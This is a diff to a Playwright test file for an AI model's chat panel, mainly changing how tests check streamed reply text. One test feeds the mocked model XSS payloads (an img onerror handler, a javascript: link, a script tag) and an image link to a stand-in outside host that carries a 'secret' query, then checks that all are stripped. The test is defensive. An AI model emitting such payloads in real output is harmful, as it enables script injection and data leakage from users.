@@ -34,33 +34,33 @@ async function askFirst(page: Page): Promise<Locator> {
 
 test('a reply is shown while it is written, and stopping it keeps what is there', async ({ page }) => {
   const panel = await askFirst(page);
-  await expect(panel.getByText('Run the command')).toBeVisible();
+  await expect(panel.locator('.assistant-prose')).toContainText('Run the command');
   model.say('`npm run dev`');
   await expect(panel.locator('code', { hasText: 'npm run dev' })).toBeVisible();
   await panel.getByRole('button', { name: 'Stop' }).click();
   await model.left();
   await expect(panel.getByText('Stopped.')).toBeVisible();
-  await expect(panel.getByText('Run the command')).toBeVisible();
+  await expect(panel.locator('.assistant-prose')).toContainText('Run the command');
   await panel.getByRole('button', { name: 'Try again' }).click();
   await expect(panel.getByText('Stopped.')).toBeHidden();
   await expect(panel.getByRole('button', { name: 'Stop' })).toBeVisible();
   model.say('again.');
   model.finish();
-  await expect(panel.getByText('Run the command again.')).toBeVisible();
+  await expect(panel.locator('.assistant-prose')).toHaveText('Run the command again.');
   await expect(panel.getByRole('article')).toHaveCount(2);
   await expect(panel.getByText('may contain mistakes')).toBeVisible();
 });
 
 test('a reply that breaks off says so, and can be asked for again', async ({ page }) => {
   const panel = await askFirst(page);
-  await expect(panel.getByText('Run the command')).toBeVisible();
+  await expect(panel.locator('.assistant-prose')).toContainText('Run the command');
   model.cut();
   await expect(panel.getByRole('alert')).toContainText('The answer broke off.');
   await page.reload();
   await expect(panel.getByRole('alert')).toContainText('The answer broke off.');
   await panel.getByRole('button', { name: 'Try again' }).click();
   await expect(panel.getByRole('alert')).toBeHidden();
-  await expect(panel.getByText('Run the command')).toBeVisible();
+  await expect(panel.locator('.assistant-prose')).toContainText('Run the command');
   model.finish();
   await expect(panel.getByRole('button', { name: 'Good answer' })).toBeVisible();
 });
@@ -75,7 +75,7 @@ test('what a question is about reaches the model', async ({ page }) => {
   const panel = page.getByRole('dialog', { name: 'Assistant' });
   await panel.getByPlaceholder('Ask a question…').fill('What does it print?');
   await page.keyboard.press('Enter');
-  await expect(panel.getByText('Run the command')).toBeVisible();
+  await expect(panel.locator('.assistant-prose')).toContainText('Run the command');
   model.finish();
   expect(model.requests.at(-1)).toContain('export const greet');
 });
@@ -88,13 +88,13 @@ test('a reply cannot run anything, load anything from elsewhere or pretend to be
     if (!request.url().startsWith(application.origin)) elsewhere.push(request.url());
   });
   const panel = await askFirst(page);
-  await expect(panel.getByText('Run the command')).toBeVisible();
+  await expect(panel.locator('.assistant-prose')).toContainText('Run the command');
   model.say('\n\n<img src="x" onerror="window.hasRun = true">\n\n[press](javascript:window.hasRun=true)\n\n');
   model.say(
     '![pixel](https://elsewhere.example/pixel.png?secret)\n\n<script>window.hasRun = true</script>\n\nDone.',
   );
   model.finish();
-  await expect(panel.getByText('Done.')).toBeVisible();
+  await expect(panel.locator('.assistant-prose')).toContainText('Done.');
   const prose = panel.locator('.assistant-prose');
   await expect(prose.locator('img, script')).toHaveCount(0);
   await expect(prose.locator('a[href^="javascript"]')).toHaveCount(0);
@@ -116,6 +116,6 @@ test('without a network the panel says that readers are offline, and asks again 
   await expect(panel.getByRole('alert')).toContainText('You are offline.');
   await context.setOffline(false);
   await panel.getByRole('button', { name: 'Try again' }).click();
-  await expect(panel.getByText('Run the command')).toBeVisible();
+  await expect(panel.locator('.assistant-prose')).toContainText('Run the command');
   model.finish();
 });
